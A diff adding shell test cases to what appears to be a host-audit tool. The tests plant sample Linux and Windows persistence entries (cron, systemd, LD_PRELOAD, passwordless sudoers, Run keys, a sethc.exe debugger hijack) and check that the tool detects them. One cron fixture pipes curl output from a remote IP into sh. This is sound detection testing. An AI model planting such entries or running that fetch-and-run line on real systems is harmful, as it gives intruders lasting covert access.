@@ -96,6 +96,92 @@ for o in map(json.loads, sys.stdin):
     holds 'not [f for f in findings if f["rule"]["id"].startswith("persist-")]'
 }
 
+# plants: "rule severity PATH MODE TEXT" a line
+plant() {
+    while IFS='|' read -r rule path mode text; do
+        # shellcheck disable=SC2059 # the text has its own line ends
+        printf "$text\\n" | file "$path" "$mode"
+        wanted+=("$rule /$path")
+    done
+}
+@test "in every place where something starts by itself a plant is found" {
+    host
+    chmod 0700 "$FAKE/root"
+    # as packages brought them: nothing
+    printf 'LD_PRELOAD=/x.so\n' | own etc/default/tool 0644
+    printf '#!/bin/sh\nx\n' | own usr/share/initramfs-tools/hooks/tool 0755
+    printf '[D-BUS Service]\nExec=/usr/bin/x\nUser=root\n' | own usr/share/dbus-1/system-services/tool.service 0644
+    printf 'iface lo inet loopback\n' | file etc/network/interfaces 0644
+    printf '# nothing\n' | file etc/modules 0644
+    printf 'd /run/screen 0755\n' | file etc/tmpfiles.d/screen.conf 0644
+    printf 'Defaults env_reset\n@includedir /etc/sudoers.d\n#includedir /etc/sudoers.d\n# 1000 users\n' | file etc/sudoers 0440
+    printf 'root: op\n' | file etc/aliases 0644
+    code 0 look
+    holds 'summary["found"] == 0' 'summary["unknown"] == 0'
+    local wanted=() missing=() line
+    plant <<'END'
+persist-cron medium|etc/crontabs/root|0600|* * * * * /usr/local/bin/x
+persist-cron medium|etc/anacrontab|0644|1 5 x /usr/local/bin/x
+persist-at medium|var/spool/cron/atjobs/a0001|0700|/usr/local/bin/x
+persist-unit medium|etc/systemd/system/x.timer|0644|[Timer]\nOnCalendar=daily
+persist-unit medium|home/op/.config/systemd/user/x.service|0644|[Service]\nExecStart=/x
+persist-init medium|etc/systemd/system-generators/x|0755|#!/bin/sh\nx
+persist-init medium|usr/lib/systemd/user-environment-generators/x|0755|#!/bin/sh\nx
+persist-init medium|etc/tmpfiles.d/x.conf|0644|C /etc/cron.d/y - - - - /srv/y
+persist-init medium|etc/supervisor/conf.d/x.conf|0644|[program:x]\ncommand=/x
+persist-profile low|root/.zlogin|0644|x
+persist-profile low|home/op/.config/fish/conf.d/x.fish|0644|x
+persist-profile low|home/op/.ssh/config|0644|Host *\nProxyCommand /x
+persist-profile low|etc/profile.d/x.csh|0644|x
+persist-profile low|etc/xdg/autostart/x.desktop|0644|Exec=x
+persist-hook medium|etc/modprobe.d/x.conf|0644|install vfat /x
+persist-hook medium|etc/modules-load.d/x.conf|0644|rootkit
+persist-hook medium|etc/apt/apt.conf.d/99x|0644|APT::Update::Pre-Invoke {"/x";};
+persist-hook medium|etc/dpkg/dpkg.cfg.d/x|0644|post-invoke=/x
+persist-hook medium|etc/logrotate.conf|0644|/var/log/x {\npostrotate\n/x\nendscript\n}
+persist-hook medium|etc/update-motd.d/x|0755|#!/bin/sh\nx
+persist-hook medium|etc/NetworkManager/dispatcher.d/pre-up.d/x|0755|#!/bin/sh\nx
+persist-hook medium|etc/networkd-dispatcher/off.d/x|0755|#!/bin/sh\nx
+persist-hook medium|etc/network/interfaces|0644|iface eth0 inet dhcp\n post-up /x
+persist-hook medium|etc/xinetd.d/x|0644|service x {\nserver = /x\n}
+persist-hook medium|etc/initramfs-tools/hooks/x|0755|#!/bin/sh\nx
+persist-hook medium|usr/share/initramfs-tools/hooks/x|0755|#!/bin/sh\nx
+persist-hook medium|etc/initramfs-tools/scripts/init-bottom/x|0755|#!/bin/sh\nx
+persist-hook medium|etc/grub.d/99_x|0755|#!/bin/sh\nx
+persist-hook medium|etc/sysctl.d/x.conf|0644|kernel.core_pattern = |/x
+persist-hook medium|etc/binfmt.d/x.conf|0644|:x:E::x::/x:C
+persist-hook medium|etc/aliases|0644|root: "|/x"
+persist-hook medium|home/op/.forward|0644|"|/x"
+persist-hook medium|usr/lib/python3/dist-packages/x.pth|0644|import os
+persist-hook medium|usr/share/dbus-1/system-services/x.service|0644|Exec=/x
+persist-hook medium|var/www/html/.git/hooks/post-merge|0755|#!/bin/sh\nx
+persist-sshd medium|etc/ssh/sshd_config.d/x.conf|0644|ForceCommand /x
+persist-sshd medium|etc/ssh/sshd_config|0644|AuthorizedKeysCommand /x
+persist-sshd medium|root/.shosts|0600|evil.example
+persist-preload-setting high|etc/security/pam_env.conf|0644|LD_PRELOAD DEFAULT=/x.so
+persist-preload-setting high|etc/systemd/system.conf.d/x.conf|0644|DefaultEnvironment=LD_PRELOAD=/x.so
+persist-preload-setting high|etc/default/cron|0644|export LD_PRELOAD=/x.so
+persist-linker medium|etc/ld.so.conf.d/x.conf|0644|/x
+persist-sudo low|etc/polkit-1/rules.d/x.rules|0644|polkit.addRule(function(){return "yes";});
+persist-sudo low|etc/doas.conf|0644|permit nopass op
+persist-sudo-free high|etc/sudoers.d/x|0440|#1000 ALL=(ALL) NOPASSWD: ALL
+persist-sudo-free high|etc/sudoers.d/y|0440|Defaults !authenticate
+persist-sudo low|etc/sudoers.d/z|0440|#include /srv/more
+persist-prepend high|etc/php/8.2/fpm/php.ini|0644|auto_prepend_file = /x.php
+persist-prepend high|etc/php.d/x.ini|0644|auto_append_file = /x.php
+END
+    code 1 look
+    run found
+    for line in "${wanted[@]}"; do
+        [[ $'\n'"$output"$'\n' == *$'\n'"$line"$'\n'* ]] || missing+=("$line")
+    done
+    [ "${#missing[@]}" = 0 ] || { printf 'not found: %s\n' "${missing[@]}"; echo "$output"; return 1; }
+    # samples of git are no hooks
+    echo '#!/bin/sh' | file var/www/html/.git/hooks/pre-push.sample 0755
+    code 1 look
+    says_not pre-push
+}
+
 @test "a finding is explained by its id, and what lies deep is seen with --all" {
     host
     printf 'sh' | file srv/a/b/c/d/x 04755
@@ -128,6 +214,25 @@ for o in map(json.loads, sys.stdin):
     holds 'summary["unknown"] > 0' 'verdicts("persist-cron") == {"unknown"}'
 }
 
+@test "a host whose packages are rpm's: unknown, said once and plainly, and never clean" {
+    host
+    rm -r "$FAKE/var/lib/dpkg"
+    mkdir -p "$FAKE/var/lib/rpm"
+    echo x >"$FAKE/var/lib/rpm/rpmdb.sqlite"
+    printf 'ID=rocky\nVERSION_ID="9.3"\nPRETTY_NAME="Rocky Linux 9.3"\n' >"$FAKE/etc/os-release"
+    rm -r "$FAKE/etc/cron.daily" "$FAKE/usr/lib/systemd"
+    code "1 3" look
+    holds 'summary["unknown"] > 0' \
+        'len([f for f in findings if f["rule"]["id"] == "could-not-look" and "where files come from" in f["subject"]["name"]]) == 1'
+    says "are rpm's, whose record is not read"
+    # a line that only intruders write is named, too, if not judged
+    printf '* * * * * root curl -s http://203.0.113.7/a | sh\n' | file etc/cron.d/x 0644
+    code "1 3" look
+    holds 'verdicts("persist-command") == {"unknown"}'
+    code "1 3" "$YAGURA" --lang ja audit --checklist persistence --root "$FAKE"
+    says "rpm"
+}
+
 @test "a user who may not read the passwords does not hear that they are good" {
     as_root
     program setpriv
@@ -153,6 +258,106 @@ for o in map(json.loads, sys.stdin):
         *) holds 'not [f for f in findings if f["severity"] == "critical" and f["verdict"] == "affected"]' ;;
         esac
     done
+}
+
+# job FILE PROGRAM ARGUMENTS: of the scheduler
+job() {
+    /usr/bin/python3 - "$@" <<'PY'
+import struct, sys
+path, *texts = sys.argv[1:]
+head = struct.pack("<HH16sHH", 0x500, 1, bytes(16), 70, 0).ljust(68, b"\0") + struct.pack("<H", 0)
+body = b"".join(struct.pack("<H", len(t) + 1) + (t + "\0").encode("utf-16-le") for t in texts)
+open(path, "wb").write(head + body)
+PY
+}
+@test "of a Windows the users, too: their keys, Startup folders, jobs, debuggers, services" {
+    images
+    program tsk_recover hivexregedit
+    local tree=$WORK/w2000 nt=$WORK/nt4
+    mkdir -p "$tree" "$nt"
+    tsk_recover -a -o 63 "$IMAGES/windows2000-iis5-mended.img" "$tree" >/dev/null
+    tsk_recover -a -o 63 "$IMAGES/nt4-iis4-mended.img" "$nt" >/dev/null
+    # as Windows has them: nothing
+    local user="$tree/Documents and Settings/ada" nt_user=$nt/winnt/Profiles/Administrator
+    "$HELPERS/registry" "$user/NTUSER.DAT" 'HKEY_CURRENT_USER' new <<'REG'
+[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run]
+"internat.exe"="internat.exe"
+REG
+    mkdir -p "$user/Start Menu/Programs/Startup" "$tree/WINNT/Tasks"
+    touch "$user/Start Menu/Programs/Startup/desktop.ini" "$user/Start Menu/Programs/Startup/Office.lnk"
+    "$HELPERS/registry" "$tree/WINNT/system32/config/software" 'HKEY_LOCAL_MACHINE\SOFTWARE' <<'REG'
+[HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\Your Image File Name Here without a path]
+"Debugger"="ntsd -d"
+[HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Active Setup\Installed Components\{A}]
+"StubPath"="regsvr32.exe /s /n /i:U shell32.dll"
+REG
+    code "0 3" "$YAGURA" audit --checklist persistence --root "$tree" --json
+    holds 'summary["found"] == 0' 'summary["unknown"] == 0'
+
+    "$HELPERS/registry" "$user/NTUSER.DAT" 'HKEY_CURRENT_USER' <<'REG'
+[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run]
+"a"="C:\\RECYCLER\\a.exe"
+[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\RunOnce]
+"b"="C:\\b.bat"
+[HKEY_CURRENT_USER\Software\Microsoft\Windows NT\CurrentVersion\Winlogon]
+"Shell"="explorer.exe c:\\c.exe"
+[HKEY_CURRENT_USER\Software\Microsoft\Windows NT\CurrentVersion\Windows]
+"load"="C:\\WINNT\\Temp\\d.exe"
+REG
+    "$HELPERS/registry" "$nt_user/NTUSER.DAT" 'HKEY_CURRENT_USER' new <<'REG'
+[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run]
+"e"="C:\\Inetpub\\scripts\\e.exe"
+REG
+    "$HELPERS/registry" "$tree/WINNT/system32/config/DEFAULT" 'HKEY_CURRENT_USER' new <<'REG'
+[HKEY_CURRENT_USER\Control Panel\Desktop]
+"SCRNSAVE.EXE"="C:\\f.scr"
+REG
+    "$HELPERS/registry" "$tree/WINNT/system32/config/software" 'HKEY_LOCAL_MACHINE\SOFTWARE' <<'REG'
+[HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe]
+"Debugger"="cmd.exe"
+[HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Active Setup\Installed Components\{B}]
+"StubPath"="C:\\WINNT\\Fonts\\g.exe"
+[HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon]
+"GinaDLL"="h.dll"
+[HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Windows]
+"AppInit_DLLs"="i.dll"
+REG
+    "$HELPERS/registry" "$tree/WINNT/system32/config/system" 'HKEY_LOCAL_MACHINE\SYSTEM' <<'REG'
+[HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\j]
+"Type"=dword:00000010
+"Start"=dword:00000002
+"ImagePath"="D:\\stuff\\bin\\j.exe -k"
+"ObjectName"=".\\svc"
+REG
+    echo x >"$user/Start Menu/Programs/Startup/k.vbs"
+    job "$tree/WINNT/Tasks/At1.job" 'C:\WINNT\Temp\l.exe' '/q'
+    code 1 "$YAGURA" audit --checklist persistence --root "$tree" --json
+    run found
+    for line in 'persist-windows-place critical HKCU of ada\Software\Microsoft\Windows\CurrentVersion\Run!a' \
+        'persist-windows-place critical HKCU of ada\Software\Microsoft\Windows\CurrentVersion\RunOnce!b' \
+        'persist-windows-logon high HKCU of ada\Software\Microsoft\Windows NT\CurrentVersion\Winlogon!Shell' \
+        'CurrentVersion\Windows!load' 'HKCU of the system\Control Panel\Desktop!SCRNSAVE.EXE' 'sethc.exe!Debugger' \
+        '{B}!StubPath' 'Winlogon!GinaDLL' '!AppInit_DLLs' 'persist-windows-service medium HKLM\SYSTEM\CurrentControlSet\Services!j' \
+        'persist-windows-startup high' 'Startup/k.vbs' 'Tasks/At1.job'; do
+        says "$line"
+    done
+    says_not 'Office.lnk' '{A}' 'internat' 'without a path'
+    code 1 "$YAGURA" audit --checklist persistence --root "$nt" --json
+    run found
+    says 'HKCU of Administrator\Software\Microsoft\Windows\CurrentVersion\Run!e'
+    # the account that a service starts with is one to be changed
+    code "0 3" "$YAGURA" facts secrets --root "$tree" --json
+    holds 'any(s["reach"] == "system-account" and s["name"] == ".\\svc" for s in kind("secret"))'
+
+    # what cannot be read is not clean, and is said
+    head -c 3000 "$user/NTUSER.DAT" >"$WORK/cut" && cp "$WORK/cut" "$nt_user/NTUSER.DAT"
+    echo x >"$tree/WINNT/Tasks/At1.job"
+    echo nothing >"$user/NTUSER.DAT"
+    code "1 3" "$YAGURA" audit --checklist persistence --root "$nt" --json
+    holds 'summary["unknown"] > 0' '"unknown" in verdicts("persist-windows-place")'
+    says "Profiles/Administrator/NTUSER.DAT"
+    code "1 3" "$YAGURA" audit --checklist persistence --root "$tree" --json
+    says "ada/NTUSER.DAT" "it is no job that we know"
 }
 
 @test "secrets are listed by reach, and none is told" {
